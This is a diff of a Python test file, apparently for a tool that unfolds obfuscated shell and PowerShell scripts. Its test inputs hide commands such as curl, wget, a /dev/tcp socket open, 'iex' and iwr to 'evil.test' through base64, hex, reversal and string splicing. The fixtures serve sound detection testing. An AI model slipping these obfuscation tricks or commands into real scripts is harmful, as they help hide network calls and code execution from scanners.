@@ -26,8 +26,8 @@ def _ps(script: str) -> list[str]:
         ("u=$(echo aHR0cDovL3gudGVzdC9h | base64 -d)\nwget $u", "wget http://x.test/a"),
         ("c=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s http://x.test", "curl -s http://x.test"),
         ("c=$'\\x63url'\n$c http://x.test", "curl http://x.test"),
-        ("e=\"ex\"\"ec\"\n$e 3<>/dev/tcp/h/1", "exec 3<>/dev/tcp/h/1"),
-        ("_r() { echo \"$1\" | rev; }\nh=$(_r \"moc.x\")\nping $h", "ping x.com"),
+        ('e="ex""ec"\n$e 3<>/dev/tcp/h/1', "exec 3<>/dev/tcp/h/1"),
+        ('_r() { echo "$1" | rev; }\nh=$(_r "moc.x")\nping $h', "ping x.com"),
         ("a=(cu rl)\n${a[0]}${a[1]} http://x.test", "curl http://x.test"),
         ("s=cXuXrXl\n${s//X/} http://x.test", "curl http://x.test"),
         ("r=$(echo 'fgnl' | tr 'a-z' 'n-za-mi')\necho $r", "echo stay"),
@@ -61,7 +61,10 @@ def test_folding_is_bounded_on_values_that_double() -> None:
     ("script", "expected"),
     [
         ("$n = -join ([char[]](112,119,115,104))\n& $n", "& 'pwsh'"),
-        ("$z = 'reg.' + (-join ('ten.elpmaxe'[-1..-11]))\nResolve-DnsName $z", "Resolve-DnsName 'reg.example.net'"),
+        (
+            "$z = 'reg.' + (-join ('ten.elpmaxe'[-1..-11]))\nResolve-DnsName $z",
+            "Resolve-DnsName 'reg.example.net'",
+        ),
         ("$a = [char]105 + [char]101 + [char]120\n& $a", "& 'iex'"),
         ("$h = ('evil', 'test') -join '.'\niwr \"http://$h/x\"", "iwr 'http://evil.test/x'"),
         (
